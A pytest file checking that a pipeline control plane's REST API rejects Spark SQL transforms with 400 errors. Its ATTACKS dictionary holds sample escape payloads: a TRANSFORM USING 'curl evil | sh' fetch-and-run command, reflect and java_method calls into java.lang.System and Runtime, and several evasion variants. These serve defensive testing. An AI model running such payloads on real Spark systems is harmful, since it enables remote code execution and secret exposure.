"""An editor cannot reach a shell, the JVM or the session through a transform (issue #12).

The REST API refuses each attack with 400 naming `spec.transform.sql` and the function, and
writes nothing. The allow-list itself is tested in tests/test_spec_sql.py and against Spark in
tests/test_spec_functions_match_spark.py.
"""

from __future__ import annotations

import pytest

from controlplane.definitions.models import Pipeline, PipelineVersion
from tests.factories import valid_spec

ATTACKS = {
    "script-transform": (
        "SELECT TRANSFORM(id) USING 'sh -c \"curl evil | sh\"' AS (x STRING) FROM source",
        "script transform",
    ),
    "map-using": ("FROM source MAP id USING 'cat' AS (id)", "script transform"),
    "reflect": (
        "SELECT reflect('java.lang.System', 'getenv', 'HOME') AS id FROM source",
        "function 'reflect'",
    ),
    "java-method": (
        "SELECT java_method('java.lang.Runtime', 'getRuntime') AS id FROM source",
        "function 'java_method'",
    ),
    "try-reflect-quoted": (
        "SELECT `TRY_REFLECT`('java.lang.System', 'exit', '0') AS id FROM source",
        "function 'try_reflect'",
    ),
    "qualified": (
        "SELECT system.builtin.reflect('java.lang.System', 'exit', '0') AS id FROM source",
        "function 'system.builtin.reflect'",
    ),
    "identifier": ("SELECT IDENTIFIER('reflect')('a', 'b') AS id FROM source", "IDENTIFIER(...)"),
    "os-user": ("SELECT current_user AS id, amount, ts FROM source", "function 'current_user'"),
    "xpath": ("SELECT xpath_string(id, '/a') AS id FROM source", "function 'xpath_string'"),
    "hint": (
        "SELECT /*+ REPARTITION(reflect('a', 'b')) */ id, amount, ts FROM source",
        "function 'reflect' in the hint",
    ),
    "table-function": (
        "SELECT s.* FROM source s, python_worker_logs()",
        "table function 'python_worker_logs'",
    ),
}


@pytest.mark.parametrize(("sql", "named"), list(ATTACKS.values()), ids=list(ATTACKS))
def test_an_editor_cannot_create_a_pipeline_whose_transform_attacks(
    api, kafka_connection, postgres_connection, sql, named
):
    spec = valid_spec(transform={"sql": sql})
    response = api.post("/api/pipelines/", {"name": "attack", "spec": spec}, format="json")
    assert response.status_code == 400, response.json()
    body = response.json()
    assert list(body) == ["spec.transform.sql"], body
    (message,) = body["spec.transform.sql"]
    assert named in message
    assert not Pipeline.objects.filter(name="attack").exists()
    assert PipelineVersion.objects.count() == 0


def test_an_editor_cannot_slip_an_attack_into_an_existing_pipeline(api, pipeline):
    sql = "SELECT reflect('java.lang.System', 'getenv', 'HOME') AS id, amount, ts FROM source"
    response = api.patch(
        "/api/pipelines/orders/", {"spec": {"transform": {"sql": sql}}}, format="json"
    )
    assert response.status_code == 400, response.json()
    assert "function 'reflect'" in response.json()["spec.transform.sql"][0]
    row = Pipeline.objects.get(name="orders")
    assert (row.version, row.spec) == (1, pipeline["spec"])
    assert row.versions.count() == 1
